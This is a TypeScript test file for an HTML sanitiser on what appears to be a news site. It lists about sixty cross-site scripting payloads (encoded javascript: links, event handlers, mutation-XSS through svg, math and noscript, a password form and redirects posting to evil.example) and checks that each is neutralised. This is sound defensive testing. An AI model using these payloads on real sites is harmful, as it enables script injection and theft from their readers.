import { expect, test } from "vitest";
import { findHarm } from "#tests/support/pages/harmless-html.ts";
import { sanitizeInline, sanitizeRich } from "./sanitize-content.ts";

/** Attacks that are to come out harmless, by what they try. */
const attacks: [string, string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in odd case with attributes", "<ScRiPt/x src=//evil.example/x.js></sCrIpT >"],
  ["a script in a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["an unclosed script", "<script>alert(1)"],
  ["an unfinished tag", "<img src=x onerror=alert(1)//"],
  ["an unfinished attribute", '<img src="x" onerror="alert(1)'],
  ["an event handler", "<img src=x onerror=alert(1)>"],
  ["an event handler after a slash", "<img/src=x/onerror=alert(1)>"],
  ["an event handler with a line break", "<b\nonmouseover\n=\nalert(1)>x</b>"],
  ["an event handler on a link", '<a href="/a" onclick="alert(1)">x</a>'],
  ["a javascript link", '<a href="javascript:alert(1)">x</a>'],
  ["a javascript link in odd case", '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ["a javascript link with entities", '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>'],
  ["a javascript link with hexadecimal entities without semicolons", '<a href="&#x6A&#x61vascript:alert(1)">x</a>'],
  ["a javascript link with a tab", '<a href="java\tscript:alert(1)">x</a>'],
  ["a javascript link with an encoded line end", '<a href="java&#10;script:alert(1)">x</a>'],
  ["a javascript link after a control character", '<a href="\u0001javascript:alert(1)">x</a>'],
  ["a javascript link after a space", '<a href=" javascript:alert(1)">x</a>'],
  ["a javascript link with a zero byte", '<a href="java\u0000script:alert(1)">x</a>'],
  ["a vbscript link", '<a href="vbscript:msgbox(1)">x</a>'],
  ["a data link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ["a data link in base64", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ["a blob link", '<a href="blob:https://talblick.example/x">x</a>'],
  ["a file link", '<a href="file:///etc/passwd">x</a>'],
  ["a link without scheme", '<a href="//evil.example">x</a>'],
  ["a link without scheme, with backslashes", '<a href="\\\\evil.example">x</a>'],
  ["a link without scheme, with a tab", '<a href="/\t/evil.example">x</a>'],
  ["a link that opens a window", '<a href="https://evil.example" target="_blank" rel="opener" ping="//evil.example">x</a>'],
  ["a data image", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ["a javascript image", '<img src="javascript:alert(1)">'],
  ["a javascript image set", '<img src="/a.jpeg" srcset="javascript:alert(1) 1x, data:text/html,x 2x">'],
  ["an svg", "<svg onload=alert(1)><script>alert(1)</script></svg>"],
  ["an svg with animation", '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ["an svg with a foreign object", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"],
  ["mathematics", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  [
    "markup that mutates in mathematics",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  ],
  ["markup that mutates in svg", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>"],
  ["markup that mutates in a form", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>"],
  ["markup that mutates in noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["markup that mutates in a title", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
  ["markup that mutates in a text area", '<textarea><img title="</textarea><img src=x onerror=alert(1)>">'],
  ["markup that mutates in xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ["markup that mutates in a template", "<template><img src=x onerror=alert(1)></template>"],
  ["markup in a comment", "<!--><img src=x onerror=alert(1)>-->"],
  ["a conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["a CDATA section", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
  ["a processing instruction", "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>"],
  ["a style element", "<style>@import '//evil.example';*{background:url(//evil.example)}</style>"],
  ["a style attribute", '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>'],
  ["an iframe", '<iframe src="//evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
  ["an object", '<object data="javascript:alert(1)"><embed src="//evil.example/x.swf"></object>'],
  [
    "a form that asks for a password",
    '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  ],
  ["a base address", '<base href="//evil.example/">'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">'],
  ["a style sheet", '<link rel="stylesheet" href="//evil.example/x.css">'],
  ["an identifier that shadows a script's variables", '<a id="document" name="cookie" href="/a">x</a>'],
  ["a class of the page", '<div class="cut fixed inset-0">x</div>'],
  [
    "hooks of the page's script",
    '<div data-enhance="article" data-post="1" contenteditable autofocus tabindex=1 accesskey=x>x</div>',
  ],
  ["a video", "<video src=x onerror=alert(1) autoplay></video><audio src=x onerror=alert(1)></audio>"],
  ["a details element that opens", "<details open ontoggle=alert(1)><summary>x</summary></details>"],
  ["a marquee", "<marquee onstart=alert(1)>x</marquee>"],
  ["an unknown element", "<x-evil onclick=alert(1)>x</x-evil>"],
  ["an element that ends the document", "</body></html><script>alert(1)</script>"],
  ["elements that are never closed", "<div><ul><li><b><i><a href='/a'>x"],
  ["elements that were never opened", "x</div></main></body>"],
];

test("an attack does no harm, neither in a text nor in a line", () => {
  for (const [name, html] of attacks) {
    expect.soft(findHarm(sanitizeRich(`<p>vorher</p>${html}`)), `${name}, in a text`).toEqual([]);
    expect.soft(findHarm(sanitizeInline(html)), `${name}, in a line`).toEqual([]);
  }
});

test("an attack stays harmless when it is sanitised twice", () => {
  for (const [name, html] of attacks) {
    const once = sanitizeRich(html);
    expect.soft(sanitizeRich(once), name).toBe(once);
  }
});

test("a thousand nested elements break nothing", () => {
  expect(findHarm(sanitizeRich(`${"<div>".repeat(1000)}tief`))).toEqual([]);
});

test("the check of these tests finds harmful markup", () => {
  for (const harmful of ["<script>", "<b onclick=x>", '<a href="java\tscript:x">', '<a href="//evil">', "<b>", "<!--x-->"]) {
    expect(findHarm(harmful), harmful).not.toEqual([]);
  }
});

test("the text of what is taken away stays, the text of scripts and styles does not", () => {
  expect(sanitizeRich("<center>Mitte</center><script>alert(1)</script><style>p{}</style>")).toBe("Mitte");
});

test("a line keeps its inline markup and loses its blocks", () => {
  const html = '<p>Ein <strong>fetter</strong> <a href="/a">Verweis</a> und <abbr title="Land">L</abbr></p><ul><li>x</li></ul>';
  expect(sanitizeInline(html)).toBe('Ein <strong>fetter</strong> <a href="/a">Verweis</a> und <abbr title="Land">L</abbr>x');
});

test.each([
  ["<ul><li>eins</li><li>zwei</li></ul>"],
  ['<ol start="3" reversed><li>drei</li></ol>'],
  [
    '<table><caption>T</caption><thead><tr><th scope="col" colspan="2">A</th></tr></thead><tbody><tr><td rowspan="2">1</td></tr></tbody></table>',
  ],
  ["<details><summary>Mehr</summary>Text</details>"],
  ['<a href="mailto:redaktion@talblick.example">Mail</a> <a href="tel:+435572123">Anruf</a> <a href="#teil">unten</a>'],
])("%s comes through as it is", (html) => {
  expect(sanitizeRich(html).replaceAll('=""', "")).toBe(html);
});

test("links that leave the site are noopener and nofollow", () => {
  expect(sanitizeInline('<a href="https://partner.example/" rel="opener">x</a>')).toBe(
    '<a href="https://partner.example/" rel="noopener nofollow">x</a>',
  );
  expect(sanitizeInline('<a href="/themen">x</a>')).toBe('<a href="/themen">x</a>');
});

test("pictures wait until the reader comes near, and are never without alternative text", () => {
  expect(sanitizeRich('<img src="/a.jpeg" width="4" height="3">')).toBe(
    '<img src="/a.jpeg" width="4" height="3" alt="" loading="lazy" />',
  );
  expect(sanitizeRich('<img src="/a.jpeg" alt="See" loading="eager">')).toContain('loading="lazy"');
});

test("one size of a picture from an address that may not be asked takes all sizes away", () => {
  const picture = (second: string) => `<img src="/a.jpeg" srcset="/a.jpeg 400w, ${second} 800w">`;
  expect(sanitizeRich(picture("/b.jpeg"))).toContain('srcset="/a.jpeg 400w, /b.jpeg 800w"');
  expect(sanitizeRich(picture("https://leser@fremd.example/b.jpeg"))).not.toContain("srcset");
});

test("a picture that has lost its source is removed", () => {
  expect(sanitizeRich('a<img alt="weg">b<img src="javascript:alert(1)" alt="weg">c')).toBe("abc");
});

test("special characters stay text", () => {
  expect(sanitizeInline("5 < 6 & 7 > 3 &lt;b&gt; &amp;amp;")).toBe("5 &lt; 6 &amp; 7 &gt; 3 &lt;b&gt; &amp;amp;");
});
